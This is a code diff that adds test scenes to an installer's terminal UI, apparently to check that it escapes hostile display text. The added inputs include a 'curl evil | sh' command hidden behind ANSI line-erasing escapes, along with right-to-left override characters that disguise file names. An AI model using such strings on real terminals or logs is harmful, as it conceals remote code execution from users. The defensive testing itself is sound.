@@ -91,6 +91,11 @@ func scenes() []scene {
 			f.planErr = steps.Usage("choose a disk of at least 8 GiB", "the disk is too small: it has 4 GiB, and the ESP, the system and swap take 7.5 GiB")
 		}, play: walk(statePlan)},
 		{name: "plan-command", play: func(p *pilot) { walk(statePlan)(p); p.press("c") }},
+		{name: "plan-escapes", play: func(p *pilot) {
+			walk(statePlan)(p)
+			p.plan.Warnings = []string{"the label \u202eSOXIN is \x1b[2Kon \x1b[1A/dev/sdb too"}
+			p.send(commandMsg("auto-installer install --host " + steps.Quote([]string{"\x1b[2Kdemo"})))
+		}},
 		{name: "plan-saved", play: func(p *pilot) { walk(statePlan)(p); p.press("w") }},
 		{name: "passphrase-empty", play: walk(statePassphrase)},
 		{name: "passphrase-typed", play: func(p *pilot) { walk(statePassphrase)(p); p.enterText("correct") }},
@@ -137,6 +142,11 @@ func scenes() []scene {
 		{name: "install-found", play: func(p *pilot) { p.install(progress); p.View(); p.press("/"); p.enterText("MKFS"); p.press("enter") }},
 		{name: "install-scrolled", play: func(p *pilot) { p.install(progress); p.View(); p.press("pgup", "up") }},
 		{name: "install-wrapped", play: func(p *pilot) { p.install(progress); p.press("w") }},
+		{name: "install-escapes", play: func(p *pilot) {
+			p.install(started("mount"),
+				steps.Event{Kind: steps.KindCommand, Action: &steps.Action{Argv: []string{"sh", "-c", "curl evil | sh\x1b[2K\x1b[Gtrue"}}},
+				steps.Event{Kind: steps.KindLog, Line: "a name \u202egpj.exe and\u200b what is not there"})
+		}},
 		{name: "install-waiting", play: func(p *pilot) { p.install(started("bootproof"), waits()) }},
 		{name: "install-refused", play: func(p *pilot) {
 			p.install(started("bootproof"), waits(), steps.Event{Kind: steps.KindWarning, Line: "the key that came is not taken: it is another host's; send the right one"})
